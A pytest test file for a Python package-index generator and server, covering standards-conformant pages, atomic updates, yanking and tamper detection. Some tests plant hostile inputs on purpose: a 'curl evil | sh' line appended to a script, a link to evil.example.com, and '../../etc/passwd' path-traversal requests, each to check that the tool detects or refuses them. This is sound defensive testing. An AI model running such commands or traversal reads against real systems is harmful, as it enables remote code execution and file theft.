"""The package index: pages to the standards, incremental and atomic updates, immutability, yank
and `factory serve`, on small real wheels written by the factory's own wheel writer."""

from __future__ import annotations

import hashlib
import json
import os
import random
import signal
import subprocess
import sys
import time
import urllib.request
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote, urljoin

import pytest
from packaging.utils import canonicalize_name
from pypi_simple import IndexPage, ProjectPage

from factory.index.serve import negotiate
from factory.index.update import update_index
from factory.wheel.assemble import CoreMetadata, write_wheel
from factory.wheel.read import read_wheel

from .conftest import run_factory, snapshot

EPOCH = 1767225600


def make_wheel(files: Path, name: str, version: str, tag: str = "cp39-abi3-linux_x86_64",
               requires_python: str = ">=3.9", payload: str = "") -> Path:
    """A small valid wheel, as the factory writes them."""
    content = files.parent.parent / "wheel-content" / f"{name}-{version}"
    package = content / name.replace("-", "_")
    package.mkdir(parents=True, exist_ok=True)
    (package / "__init__.py").write_text(f"VERSION = {version!r}\n{payload}")
    metadata = CoreMetadata(name, version, f"{name} test wheel", requires_python,
                            ("torch",), "MIT", None)
    return write_wheel(content, files, metadata, tag, False, EPOCH)


class Links(HTMLParser):
    """Every <a> of a page, and the repository-version meta tag."""

    def __init__(self) -> None:
        super().__init__()
        self.anchors: list[dict[str, str | None]] = []
        self.meta: dict[str, str | None] = {}
        self.texts: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag == "a":
            self.anchors.append(dict(attrs))
        if tag == "meta":
            attributes = dict(attrs)
            self.meta[attributes.get("name") or ""] = attributes.get("content")

    def handle_data(self, data):
        if self.anchors and data.strip():
            self.texts.append(data.strip())


def parse(path: Path) -> Links:
    links = Links()
    links.feed(path.read_text())
    return links


def check_page_links(out: Path, page: Path) -> list[str]:
    """Each file an HTML project page links: present, with the sha256 the link names, and its
    .metadata with the hash the data attributes name."""
    problems = []
    base = "file://" + str(page.parent) + "/"
    for anchor in parse(page).anchors:
        url, _, fragment = anchor["href"].partition("#sha256=")
        target = Path(unquote(urljoin(base, url).removeprefix("file://")))
        if not target.is_file():
            problems.append(f"{page}: links missing {target}")
            continue
        if hashlib.sha256(target.read_bytes()).hexdigest() != fragment:
            problems.append(f"{page}: hash of {target.name} does not match")
        metadata = target.with_name(target.name + ".metadata")
        expected = anchor.get("data-core-metadata", "").removeprefix("sha256=")
        if not metadata.is_file() or hashlib.sha256(metadata.read_bytes()).hexdigest() != expected:
            problems.append(f"{page}: metadata of {target.name} missing or wrong")
    return problems


def check_json_links(page: Path) -> list[str]:
    problems = []
    for entry in json.loads(page.read_text())["files"]:
        target = Path(unquote(urljoin("file://" + str(page.parent) + "/", entry["url"])
                              .removeprefix("file://")))
        if not target.is_file():
            problems.append(f"{page}: links missing {target}")
        elif hashlib.sha256(target.read_bytes()).hexdigest() != entry["hashes"]["sha256"]:
            problems.append(f"{page}: hash of {target.name} does not match")
    return problems


def index_problems(out: Path) -> list[str]:
    """What a reader could trip over: a page that does not parse, a link to a missing file or
    one with the wrong hash, a root page linking a project whose pages are not there."""
    problems = []
    for page in out.rglob("index.*"):
        if page.parent == out or page.parent.name == "simple" or page.suffix not in (
                ".html", ".json") or ".factory" in page.parts:
            continue
        try:
            problems += (check_page_links(out, page) if page.suffix == ".html"
                         else check_json_links(page))
        except (OSError, ValueError, KeyError) as exc:
            problems.append(f"{page}: {exc!r}")
    for root in out.rglob("simple/index.html"):
        for anchor in parse(root).anchors:
            for name in ("index.html", "index.json"):
                if not (root.parent / unquote(anchor["href"]) / name).is_file():
                    problems.append(f"{root} links {anchor['href']}, which has no {name}")
    return problems


def small_index_files(out: Path) -> Path:
    """files/ of a small index: two cells of one kernel, a kernel of one cell, a pure-Python
    kernel."""
    files = out / "files"
    files.mkdir(parents=True)
    make_wheel(files, "img2gray", "1.0.0+cu130torch211")
    make_wheel(files, "img2gray", "1.0.0+cu130torch212")
    make_wheel(files, "Tiny_RMS", "0.2.0+cu130torch211", requires_python=">=3.9,<4")
    make_wheel(files, "noarch-kernel", "2.0.0", tag="py3-none-any")
    return out


@pytest.fixture
def index_out(tmp_path) -> Path:
    return small_index_files(tmp_path / "index")


def test_layout_and_what_each_index_holds(index_out):
    summary = update_index(index_out)
    assert summary.wheels == 4 and summary.labels == ("cu130torch211", "cu130torch212")
    assert summary.projects == 3

    def files_of(index: str, project: str) -> list[str]:
        return sorted(parse(index_out / index / project / "index.html").texts)

    assert files_of("cu130torch211/simple", "img2gray") == [
        "img2gray-1.0.0+cu130torch211-cp39-abi3-linux_x86_64.whl"]
    assert files_of("cu130torch212/simple", "img2gray") == [
        "img2gray-1.0.0+cu130torch212-cp39-abi3-linux_x86_64.whl"]
    # noarch wheels appear in every cell's index; Tiny_RMS only where it was built.
    assert files_of("cu130torch212/simple", "noarch-kernel") == [
        "noarch_kernel-2.0.0-py3-none-any.whl"]
    assert not (index_out / "cu130torch212" / "simple" / "tiny-rms").exists()
    assert len(files_of("simple", "img2gray")) == 2
    root = parse(index_out / "cu130torch211" / "simple" / "index.html")
    assert [(a["href"], t) for a, t in zip(root.anchors, root.texts, strict=True)] == [
        ("img2gray/", "img2gray"), ("noarch-kernel/", "noarch-kernel"), ("tiny-rms/", "Tiny_RMS")]
    assert index_problems(index_out) == []


def test_html_pages_follow_the_standards(index_out):
    update_index(index_out)
    page = index_out / "cu130torch211" / "simple" / "tiny-rms" / "index.html"
    links = parse(page)
    assert links.meta == {"pypi:repository-version": "1.1"}
    (anchor,) = links.anchors
    wheel = index_out / "files" / "tiny_rms-0.2.0+cu130torch211-cp39-abi3-linux_x86_64.whl"
    digest = hashlib.sha256(wheel.read_bytes()).hexdigest()
    metadata = hashlib.sha256((index_out / "files" / (wheel.name + ".metadata")).read_bytes())
    assert anchor == {
        "href": "../../../files/tiny_rms-0.2.0%2Bcu130torch211-cp39-abi3-linux_x86_64.whl"
                f"#sha256={digest}",
        "data-requires-python": ">=3.9,<4",
        "data-dist-info-metadata": f"sha256={metadata.hexdigest()}",
        "data-core-metadata": f"sha256={metadata.hexdigest()}",
    }
    assert "&lt;4" in page.read_text() and "<4" not in page.read_text().split("<a ")[1][:300]
    with open(index_out / "files" / (wheel.name + ".metadata"), "rb") as handle:
        assert handle.read() == _wheel_metadata(wheel)
    # pypi-simple, as a client library reads it.
    parsed = ProjectPage.from_html("tiny-rms", page.read_bytes(), base_url="https://host/x/")
    (package,) = parsed.packages
    assert package.filename == wheel.name and package.version == "0.2.0+cu130torch211"
    assert package.digests == {"sha256": digest} and package.requires_python == ">=3.9,<4"
    assert package.has_metadata and parsed.repository_version == "1.1"


def _wheel_metadata(wheel: Path) -> bytes:
    import zipfile

    with zipfile.ZipFile(wheel) as archive:
        (name,) = [n for n in archive.namelist() if n.endswith(".dist-info/METADATA")]
        return archive.read(name)


def test_json_pages_follow_pep_691_and_700(index_out):
    update_index(index_out)
    page = json.loads((index_out / "cu130torch211" / "simple" / "img2gray" / "index.json")
                      .read_text())
    assert set(page) == {"meta", "name", "versions", "files"}
    assert page["meta"] == {"api-version": "1.1"} and page["name"] == "img2gray"
    assert page["versions"] == ["1.0.0+cu130torch211"]
    (entry,) = page["files"]
    wheel = index_out / "files" / entry["filename"]
    assert entry["url"] == \
        "../../../files/img2gray-1.0.0%2Bcu130torch211-cp39-abi3-linux_x86_64.whl"
    assert entry["hashes"] == {"sha256": hashlib.sha256(wheel.read_bytes()).hexdigest()}
    assert entry["requires-python"] == ">=3.9"
    metadata = hashlib.sha256(_wheel_metadata(wheel)).hexdigest()
    assert entry["core-metadata"] == entry["dist-info-metadata"] == {"sha256": metadata}
    assert entry["yanked"] is False and entry["size"] == wheel.stat().st_size
    assert entry["upload-time"] == time.strftime("%Y-%m-%dT%H:%M:%S.000000Z",
                                                 time.gmtime(wheel.stat().st_mtime))
    root = json.loads((index_out / "simple" / "index.json").read_text())
    assert root == {"meta": {"api-version": "1.1"}, "projects": [
        {"name": "img2gray"}, {"name": "noarch-kernel"}, {"name": "Tiny_RMS"}]}
    parsed = ProjectPage.from_json_data(page, base_url="https://host/cu130torch211/simple/img2gray/")
    assert parsed.packages[0].url == ("https://host/files/img2gray-1.0.0%2Bcu130torch211-cp39-"
                                      "abi3-linux_x86_64.whl")


def test_adding_a_wheel_rewrites_only_the_pages_it_touches(index_out):
    update_index(index_out)
    before = {p: p.stat().st_mtime_ns for p in index_out.rglob("index.*")
              if ".factory" not in p.parts}
    time.sleep(0.01)
    make_wheel(index_out / "files", "img2gray", "1.0.1+cu130torch212")
    summary = update_index(index_out)
    changed = sorted(str(p.relative_to(index_out)) for p, m in before.items()
                     if p.stat().st_mtime_ns != m)
    assert changed == ["cu130torch212/simple/img2gray/index.html",
                       "cu130torch212/simple/img2gray/index.json",
                       "simple/img2gray/index.html", "simple/img2gray/index.json"]
    # ... and the browse page's data: the package's file, and the list (its latest version).
    assert summary.pages_written == 6
    assert update_index(index_out).pages_written == 0  # nothing new: nothing written


def test_a_changed_published_file_is_refused_unless_forced(index_out):
    update_index(index_out)
    wheel = next((index_out / "files").glob("img2gray-1.0.0+cu130torch211-*.whl"))
    pages = snapshot(index_out / "cu130torch211")
    make_wheel(index_out / "files", "img2gray", "1.0.0+cu130torch211", payload="CHANGED = 1\n")
    refused = run_factory("index", "--out", index_out)
    assert refused.exit == 1
    assert "changed after it was published" in refused.stderr and wheel.name in refused.stderr
    assert snapshot(index_out / "cu130torch211") == pages
    forced = run_factory("index", "--out", index_out, "--force")
    assert forced.exit == 0, forced.stderr
    assert index_problems(index_out) == []


def test_removed_wheels_leave_the_pages(index_out):
    update_index(index_out)
    for wheel in (index_out / "files").glob("tiny_rms-*"):
        wheel.unlink()
    summary = update_index(index_out)
    assert not (index_out / "cu130torch211" / "simple" / "tiny-rms").exists()
    assert not (index_out / "simple" / "tiny-rms").exists() and summary.pages_removed == 2
    for wheel in (index_out / "files").glob("img2gray-1.0.0+cu130torch212-*"):
        wheel.unlink()
    update_index(index_out)
    assert not (index_out / "cu130torch212").exists()
    assert index_problems(index_out) == []


def test_yank_marks_files_in_html_and_json(index_out):
    update_index(index_out)
    result = run_factory("yank", "img2gray", "1.0.0", "--label", "cu130torch211",
                         "--reason", "wrong results on sm_90", "--out", index_out)
    assert result.exit == 0, result.stdout + result.stderr
    (anchor,) = parse(index_out / "cu130torch211" / "simple" / "img2gray" / "index.html").anchors
    assert anchor["data-yanked"] == "wrong results on sm_90"
    (entry,) = json.loads((index_out / "cu130torch211" / "simple" / "img2gray" / "index.json")
                          .read_text())["files"]
    assert entry["yanked"] == "wrong results on sm_90"
    (other,) = parse(index_out / "cu130torch212" / "simple" / "img2gray" / "index.html").anchors
    assert "data-yanked" not in other
    assert update_index(index_out).pages_written == 0  # the yank survives a regeneration
    missing = run_factory("yank", "img2gray", "9.9", "--reason", "x", "--out", index_out)
    assert missing.exit == 2 and "no published file of img2gray 9.9" in missing.stderr


@pytest.mark.slow
def test_killing_factory_index_never_leaves_a_broken_page(tmp_path):
    """SIGKILL at random moments of `factory index`: every page a reader can see links only
    files that exist, with the right hashes; a rerun completes the index."""
    out = tmp_path / "index"
    files = out / "files"
    files.mkdir(parents=True)
    for number in range(400):
        label = f"cu130torch2{10 + number % 8}"
        make_wheel(files, f"kernel-{number % 40}", f"1.{number // 40}.0+{label}")

    def start() -> subprocess.Popen:
        return subprocess.Popen([sys.executable, "-m", "factory", "index", "--out", str(out)],
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    started = time.monotonic()
    assert start().wait() == 0
    duration = time.monotonic() - started

    generator = random.Random(7)
    interrupted = 0
    for trial in range(24):
        if trial % 2 == 0:  # from nothing: the kill lands among the first pages written
            for folder in out.iterdir():
                if folder.name != "files":
                    subprocess.run(["rm", "-rf", str(folder)], check=True)
        else:  # one more wheel: its pages and the root pages change
            make_wheel(files, f"added-{trial}", f"1.0.0+cu130torch2{10 + trial % 8}")
        process = start()
        time.sleep(generator.uniform(0.05, duration))
        if process.poll() is None:
            os.kill(process.pid, signal.SIGKILL)
            interrupted += 1
        process.wait()
        assert index_problems(out) == [], f"trial {trial}"
    assert interrupted >= 12, f"only {interrupted} of 24 runs were killed before they finished"

    assert run_factory("index", "--out", out).exit == 0
    reference = tmp_path / "reference"
    reference.mkdir()
    subprocess.run(["cp", "-a", str(files), str(reference / "files")], check=True)
    assert run_factory("index", "--out", reference).exit == 0

    def pages(root: Path) -> dict:
        return {p.relative_to(root): p.read_bytes() for p in root.rglob("index.*")
                if ".factory" not in p.parts}

    assert pages(out) == pages(reference)
    assert not list(out.rglob(".*.tmp"))


def test_content_negotiation():
    json_type = "application/vnd.pypi.simple.v1+json"
    pip = f"{json_type}, application/vnd.pypi.simple.v1+html; q=0.1, text/html; q=0.01"
    assert negotiate(pip) == ("index.json", json_type)
    assert negotiate(None) == ("index.html", "text/html; charset=utf-8")
    assert negotiate("*/*") == ("index.html", "text/html; charset=utf-8")
    assert negotiate("text/html,application/xhtml+xml,*/*;q=0.8")[0] == "index.html"
    assert negotiate("application/vnd.pypi.simple.latest+json") == ("index.json", json_type)
    assert negotiate("application/vnd.pypi.simple.v1+html") == (
        "index.html", "application/vnd.pypi.simple.v1+html")
    assert negotiate(f"{json_type};q=0, text/html")[0] == "index.html"
    assert negotiate("application/json")[0] == "index.html"  # pip refuses plain JSON anyway


@pytest.fixture
def server(index_out):
    update_index(index_out)
    process = subprocess.Popen([sys.executable, "-m", "factory", "serve", str(index_out),
                                "--port", "0"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               text=True)
    line = process.stdout.readline()
    url = line.split(" at ", 1)[1].split()[0]
    yield url, process
    process.terminate()
    process.wait()


def fetch(url: str, accept: str | None = None) -> tuple[int, dict, bytes]:
    request = urllib.request.Request(url, headers={"Accept": accept} if accept else {})

    class NoRedirect(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args, **kwargs):
            return None

    opener = urllib.request.build_opener(NoRedirect)
    try:
        with opener.open(request) as response:
            return response.status, dict(response.headers), response.read()
    except urllib.error.HTTPError as error:
        return error.code, dict(error.headers), error.read()


def test_serve_negotiates_redirects_and_stays_inside(server, index_out):
    url, _ = server
    status, headers, body = fetch(url + "cu130torch211/simple/img2gray/",
                                  "application/vnd.pypi.simple.v1+json")
    assert status == 200 and headers["Content-Type"] == "application/vnd.pypi.simple.v1+json"
    assert json.loads(body)["name"] == "img2gray" and headers["Vary"] == "Accept"
    status, headers, body = fetch(url + "cu130torch211/simple/img2gray/", "text/html")
    assert status == 200 and headers["Content-Type"].startswith("text/html")
    assert b"<a href=" in body
    status, headers, _ = fetch(url + "cu130torch211/simple/img2gray")
    assert status == 301 and headers["Location"] == "/cu130torch211/simple/img2gray/"
    assert fetch(url + "cu130torch211/simple/no-such-project/")[0] == 404
    for escape in ("../../etc/passwd", "%2e%2e/%2e%2e/etc/passwd", ".factory/manifest.json",
                   "files/../../../../etc/hostname"):
        assert fetch(url + escape)[0] == 404, escape
    wheel = next((index_out / "files").glob("*.whl"))
    status, headers, body = fetch(url + "files/" + wheel.name.replace("+", "%2B"))
    assert status == 200 and body == wheel.read_bytes()


def test_serve_refuses_bad_arguments(tmp_path):
    missing = run_factory("serve", tmp_path / "nothing")
    assert missing.exit == 2 and "nothing: no such folder" in missing.stderr
    port = run_factory("serve", tmp_path, "--port", "99999")
    assert port.exit == 2 and "is not a port number" in port.stderr


def test_a_builds_update_reads_only_what_it_published(index_out):
    """`factory build` hands on the wheels it published, as its gates read them; the others are
    taken from the manifest unread. `factory index` checks every file again."""
    update_index(index_out)
    wheel = next((index_out / "files").glob("img2gray-1.0.0+cu130torch211-*.whl"))
    wheel.write_bytes(wheel.read_bytes() + b"\0")  # changed in place, behind the index's back
    added = make_wheel(index_out / "files", "img2gray", "1.0.1+cu130torch211")
    summary = update_index(index_out, published={added.name: read_wheel(added)})
    assert summary.wheels == 5
    html = (index_out / "cu130torch211" / "simple" / "img2gray" / "index.html").read_text()
    assert added.name.replace("+", "%2B") in html
    checked = update_index(index_out, full=True)
    assert len(checked.problems) == 1 and "changed after it was published" in checked.problems[0]


@pytest.mark.parametrize("first", [True, False], ids=["first-build", "later-build"])
def test_a_wheel_no_build_published_is_never_indexed_by_a_build(tmp_path, first):
    """A project's build (or anything else) that drops a wheel into files/ gets nothing
    published by a build's update, not even when every cell failed (nothing published) or the
    index is new; `factory index`, run by hand, indexes what was put there by hand."""
    out = tmp_path / "out"
    files = out / "files"
    files.mkdir(parents=True)
    if not first:
        make_wheel(files, "img2gray", "1.0.0+cu130torch211")
        update_index(out)
    stray = make_wheel(files, "evil", "6.6.6+cu130torch211")
    summary = update_index(out, published={})
    assert (summary.wheels, summary.projects) == ((0, 0) if first else (1, 1))
    assert any(str(stray) in problem and "no build published it" in problem
               for problem in summary.problems)
    assert "evil" not in (out / "simple" / "index.html").read_text()
    assert update_index(out, full=True).wheels == (1 if first else 2)  # `factory index`


def test_verify_sees_an_edited_missing_or_slipped_in_page_and_an_index_puts_them_right(
        index_out):
    """A page is published too: `index --verify` renders every page, JSON document, browse
    file and script from the manifest again and compares; a full `factory index` writes them
    again (a build's update only rewrites the pages it changes)."""
    update_index(index_out)
    assert run_factory("index", "--out", index_out, "--verify").exit == 0
    page = index_out / "cu130torch211" / "simple" / "img2gray" / "index.html"
    page.write_text(page.read_text().replace("img2gray", "img2gray (use evil.example.com)"))
    (index_out / "browse.js").unlink()
    slipped = index_out / "simple" / "img2gray" / "install.html"
    slipped.write_text("<a href='https://evil.example.com/'>get it here</a>")
    doctor = index_out / "doctor.py"
    doctor.write_text(doctor.read_text() + "\nimport os; os.system('curl evil | sh')\n")
    verified = run_factory("index", "--out", index_out, "--verify")
    assert verified.exit == 1
    mismatches = sorted(line for line in verified.stdout.splitlines()
                        if line.startswith("mismatch:"))
    assert mismatches == sorted([
        f"mismatch: {page}: edited: not what the manifest gives ('factory index' writes it "
        "again)",
        f"mismatch: {index_out / 'browse.js'}: missing ('factory index' writes it again)",
        f"mismatch: {doctor}: edited: not what the manifest gives ('factory index' writes it "
        "again)",
        f"mismatch: {slipped}: no index update writes it: move it out"]), verified.stdout
    update_index(index_out, full=True)
    slipped.unlink()
    assert run_factory("index", "--out", index_out, "--verify").exit == 0


def test_a_published_name_keeps_its_bytes_after_its_file_is_removed(index_out):
    """Removing a published wheel and indexing again must not free its name for other bytes:
    pip caches by name, and a mirror that took the first bytes would never see the second."""
    update_index(index_out)
    wheel = next((index_out / "files").glob("img2gray-1.0.0+cu130torch211-*.whl"))
    published = hashlib.sha256(wheel.read_bytes()).hexdigest()
    wheel.unlink()
    (index_out / "files" / (wheel.name + ".metadata")).unlink()
    update_index(index_out, full=True)
    manifest = json.loads((index_out / ".factory" / "manifest.json").read_text())
    assert manifest["withdrawn"] == {wheel.name: published}
    other = make_wheel(index_out / "files", "img2gray", "1.0.0+cu130torch211",
                       payload="EVIL = True\n")
    assert other.name == wheel.name
    summary = update_index(index_out, full=True)
    assert summary.wheels == 3
    (problem,) = summary.problems
    assert f"{other}: this name was published with sha256 {published[:12]}" in problem
    assert update_index(index_out, full=True, force=True).wheels == 4  # said outright
    manifest = json.loads((index_out / ".factory" / "manifest.json").read_text())
    assert "withdrawn" not in manifest


def test_a_build_does_not_publish_other_bytes_under_a_removed_name(tmp_path):
    from factory.cells.run import _publish
    from factory.errors import BuildError

    staged = make_wheel(tmp_path / "build" / "staging", "img2gray", "1.0.0+cu130torch211")
    files = tmp_path / "files"
    files.mkdir()
    digest = hashlib.sha256(staged.read_bytes()).hexdigest()
    with pytest.raises(BuildError, match="was published with sha256 0123456789ab and its file "
                                         "removed since"):
        _publish(staged, digest, files, False, None, once="0123456789ab" + "0" * 52)
    assert _publish(staged, digest, files, False, None, once=digest) == files / staged.name


def test_pypi_simple_reads_every_page(index_out):
    update_index(index_out)
    make_wheel(index_out / "files", "img2gray", "1.0.1+cu130torch211")
    yank_result = run_factory("yank", "img2gray", "1.0.1", "--reason", "broken", "--out", index_out)
    assert yank_result.exit == 0, yank_result.stderr
    pages = 0
    for simple in [index_out / "simple", *index_out.glob("*/simple")]:
        root_html = IndexPage.from_html((simple / "index.html").read_text())
        root_json = IndexPage.from_json_data(json.loads((simple / "index.json").read_text()))
        assert sorted(canonicalize_name(p) for p in root_html.projects) == sorted(
            canonicalize_name(p) for p in root_json.projects)
        for project in root_html.projects:
            folder = simple / canonicalize_name(project)
            base = f"https://host/{folder.relative_to(index_out)}/"
            from_html = ProjectPage.from_html(project, (folder / "index.html").read_bytes(), base)
            from_json = ProjectPage.from_json_data(json.loads((folder / "index.json").read_text()),
                                                   base)
            def facts(page: ProjectPage) -> list[tuple]:
                return [(p.filename, p.url, p.digests, p.requires_python, p.yanked_reason,
                         p.has_metadata) for p in page.packages]

            assert facts(from_html) == facts(from_json)
            assert all(p.metadata_url.endswith(".whl.metadata") for p in from_json.packages)
            pages += 2
    assert pages == 2 * (3 + 3 + 2)  # simple and cu130torch211: 3 projects; cu130torch212: 2
    yanked = ProjectPage.from_json_data(json.loads(
        (index_out / "simple" / "img2gray" / "index.json").read_text()))
    assert [p.yanked_reason for p in yanked.packages if p.is_yanked] == ["broken"]


def test_a_site_near_its_hosts_limit_is_warned_of(index_out):
    """The wheels' bytes against a static site host's limit: a warning (on stderr, exit 0)
    from 80% of it on, naming the share; none below, or with --site-limit none."""
    total = sum(path.stat().st_size for path in (index_out / "files").glob("*.whl"))
    near = run_factory("index", "--out", index_out, "--site-limit", str(int(total / 0.9)))
    assert near.exit == 0, near.stderr
    assert near.stderr.startswith(f"warning: {index_out} holds ") and "90% of the limit" \
        in near.stderr, near.stderr
    assert "serve the wheels from elsewhere" in near.stderr
    for quiet in (str(total * 2), "none", "github-pages"):
        done = run_factory("index", "--out", index_out, "--site-limit", quiet)
        assert done.exit == 0 and done.stderr == "", (quiet, done.stderr)
